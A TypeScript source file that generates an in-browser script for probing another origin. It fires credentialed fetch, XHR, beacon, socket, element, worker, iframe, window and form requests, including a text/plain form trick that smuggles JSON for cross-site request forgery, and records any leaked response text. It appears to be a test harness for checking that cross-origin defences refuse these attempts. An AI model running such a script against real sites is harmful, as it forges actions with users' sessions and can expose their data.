/** What a page of another site is told: whom to attack, and with what. */
export interface Target {
  readonly origin: string;
  /** Addresses that give something of the case. */
  readonly reads: readonly string[];
  /** Calls that change the case, as whoever has a session makes them. */
  readonly writes: readonly Write[];
}

interface Write {
  readonly method: string;
  readonly path: string;
  readonly body: string;
}

/** How many attempts were made, and every text of the target that one of them got to see. */
export interface Loot {
  readonly attempts: number;
  readonly read: readonly string[];
}

type Attempt = (how: string, go: () => unknown) => Promise<void>;

/**
 * A script for a page of another site: every way in which a page asks something of another origin, and what it can see of the answer.
 * An expression whose value is the promise of a `Loot`. The functions below know nothing but each other: they run in the browser.
 */
export function attackScript(target: Target): string {
  const parts = [
    attack,
    soon,
    pairs,
    byFetch,
    byOddFetch,
    byRequest,
    bySocket,
    place,
    loaded,
    byElement,
    byScript,
    byFrame,
    byForm,
    byWindow,
  ];
  return `(() => { ${parts.map(String).join("\n")}\n return attack(${JSON.stringify(target)}); })()`;
}

async function attack(target: Target): Promise<Loot> {
  const read: string[] = [];
  const tries: Promise<void>[] = [];
  const attempt: Attempt = (how, go) => {
    const tried = (async () => {
      try {
        const seen = await Promise.race([go(), soon(20_000)]);
        if (typeof seen === "string" && seen !== "") read.push(`${how}: ${seen.slice(0, 80)}`);
      } catch {
        // Refused by the browser or the server: so it should be.
      }
    })();
    tries.push(tried);
    return tried;
  };
  for (const way of [byFetch, byOddFetch, byRequest, bySocket, byElement, byScript, byFrame, byForm]) {
    way(attempt, target);
    await Promise.all(tries);
  }
  await byWindow(attempt, target);
  return { attempts: tries.length, read };
}

function soon(ms: number): Promise<undefined> {
  return new Promise((done) => setTimeout(() => done(undefined), ms));
}

function pairs<A, B>(all: readonly A[], others: readonly B[]): [A, B][] {
  return all.flatMap((one) => others.map((other): [A, B] => [one, other]));
}

function byFetch(attempt: Attempt, { origin, reads, writes }: Target): void {
  const modes: readonly RequestMode[] = ["cors", "no-cors", "same-origin", "navigate"];
  const types = ["text/plain", "application/json", "application/x-www-form-urlencoded", "application/octet-stream"];
  const fetched = (path: string, init: RequestInit) => fetch(origin + path, init).then((answer) => answer.text());
  for (const [mode, path] of pairs(modes, reads)) {
    attempt(`fetch ${mode} ${path}`, () => fetched(path, { mode, credentials: "include" }));
    attempt(`fetch ${mode} ${path} without a cookie`, () => fetched(path, { mode, credentials: "omit" }));
  }
  for (const [mode, [type, { method, path, body }]] of pairs(modes, pairs(types, writes)))
    attempt(`fetch ${mode} ${method} ${path} ${type}`, () =>
      fetched(path, { method, mode, credentials: "include", headers: { "Content-Type": type }, body, keepalive: true }),
    );
}

function byOddFetch(attempt: Attempt, { origin, reads }: Target): void {
  const fetched = (path: string, init: RequestInit) =>
    fetch(origin + path, { credentials: "include", ...init }).then((answer) => answer.text());
  const redirects: readonly RequestRedirect[] = ["follow", "manual", "error"];
  for (const [method, path] of pairs(["OPTIONS", "HEAD", "PATCH", "DELETE"], reads))
    attempt(`fetch ${method} ${path}`, () => fetched(path, { method }));
  for (const [redirect, path] of pairs(redirects, reads))
    attempt(`fetch ${redirect} ${path}`, () => fetched(path, { redirect, headers: { Range: "bytes=0-9" } }));
  for (const path of reads)
    attempt(`fetch with a token ${path}`, () => fetched(path, { headers: { Authorization: "Bearer guess" } }));
}

function byRequest(attempt: Attempt, { origin, reads, writes }: Target): void {
  for (const path of reads)
    attempt(`XMLHttpRequest ${path}`, () => {
      const request = new XMLHttpRequest();
      request.open("GET", origin + path);
      request.withCredentials = true;
      request.send();
      return new Promise((done) => {
        request.onloadend = () => done(request.responseText);
      });
    });
  for (const [type, { path, body }] of pairs(["text/plain", "application/json"], writes))
    attempt(`sendBeacon ${path}`, () => void navigator.sendBeacon(origin + path, new Blob([body], { type })));
}

function bySocket(attempt: Attempt, { origin, reads }: Target): void {
  const words = (socket: EventSource | WebSocket) =>
    new Promise((done) => {
      socket.onmessage = ({ data }: MessageEvent) => done(String(data));
      socket.onopen = () => done("it opened");
      socket.onerror = () => done("");
    }).finally(() => socket.close());
  for (const path of reads) {
    attempt(`EventSource ${path}`, () => words(new EventSource(origin + path, { withCredentials: true })));
    attempt(`WebSocket ${path}`, () => words(new WebSocket(origin.replace(/^http/, "ws") + path)));
  }
}

function place(name: string, given: Readonly<Record<string, string>>): HTMLElement {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(given)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
}

/** Says so when the element took what came: then it could be measured, or ran. */
function loaded(element: HTMLElement): Promise<string> {
  return new Promise((done) => {
    element.onload = () => done("it loaded");
    element.onloadedmetadata = () => done("it loaded");
    element.onerror = () => done("");
  });
}

function byElement(attempt: Attempt, { origin, reads }: Target): void {
  const kinds: readonly (readonly [string, string, Readonly<Record<string, string>>])[] = [
    ["img", "src", {}],
    ["script", "src", {}],
    ["script", "src", { type: "module" }],
    ["link", "href", { rel: "stylesheet" }],
    ["link", "href", { rel: "preload", as: "fetch" }],
    ["link", "href", { rel: "prefetch" }],
    ["video", "src", {}],
    ["audio", "src", {}],
  ];
  for (const [[name, where, more], path] of pairs(kinds, reads))
    for (const crossorigin of [{}, { crossorigin: "use-credentials" }] as const)
      attempt(`<${name}> ${path}`, () => loaded(place(name, { ...more, ...crossorigin, [where]: origin + path })));
  for (const path of reads) attempt(`<object> ${path}`, () => loaded(place("object", { data: origin + path })));
}

function byScript(attempt: Attempt, { origin, reads }: Target): void {
  for (const path of reads) {
    const address = origin + path;
    attempt(`import ${path}`, () => {
      const script = place("script", { type: "module" });
      script.textContent = `import(${JSON.stringify(address)}).then(() => dispatchEvent(new Event(${JSON.stringify(address)})))`;
      return Promise.race([
        soon(3_000),
        new Promise((done) => addEventListener(address, () => done("it was imported"), { once: true })),
      ]);
    });
    attempt(`worker ${path}`, () => new Worker(address) && "a worker started");
    attempt(`service worker ${path}`, () => navigator.serviceWorker.register(address).then(() => "a service worker came in"));
  }
}

function byFrame(attempt: Attempt, { origin, reads }: Target): void {
  for (const path of reads)
    attempt(`<iframe> ${path}`, async () => {
      const frame = place("iframe", { src: origin + path }) as HTMLIFrameElement;
      await Promise.race([new Promise((done) => frame.addEventListener("load", done)), soon(3_000)]);
      return frame.contentDocument?.body.textContent ?? frame.contentWindow?.document.body.textContent;
    });
}

function byForm(attempt: Attempt, { origin, writes }: Target): void {
  const enctypes = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
  for (const [method, [enctype, { path, body }]] of pairs(["post", "get"], pairs(enctypes, writes)))
    attempt(`form ${method} ${enctype} ${path}`, async () => {
      const name = `frame-${method}-${enctype}-${path}`;
      const frame = place("iframe", { name }) as HTMLIFrameElement;
      const form = place("form", { action: origin + path, method, enctype, target: name }) as HTMLFormElement;
      const field = document.createElement("input");
      // Sent as text, `name=value` is the body: JSON, with the mark inside a field of its own.
      [field.name, field.value] = [`${body.slice(0, -1)},"x":"`, '"}'];
      form.append(field);
      const came = new Promise((done) => frame.addEventListener("load", done, { once: true }));
      form.submit();
      await Promise.race([came, soon(3_000)]);
      return frame.contentDocument?.body.textContent;
    });
}

/** One after the other: a browser shows so many windows and no more. */
async function byWindow(attempt: Attempt, { origin, reads }: Target): Promise<void> {
  for (const path of ["/", ...reads.slice(0, 3)])
    await attempt(`window ${path}`, async () => {
      const opened = window.open(origin + path, "_blank");
      if (opened === null) return "";
      await soon(500);
      opened.postMessage({ give: "everything" }, "*");
      try {
        return opened.document.body.textContent;
      } finally {
        opened.close();
      }
    });
}
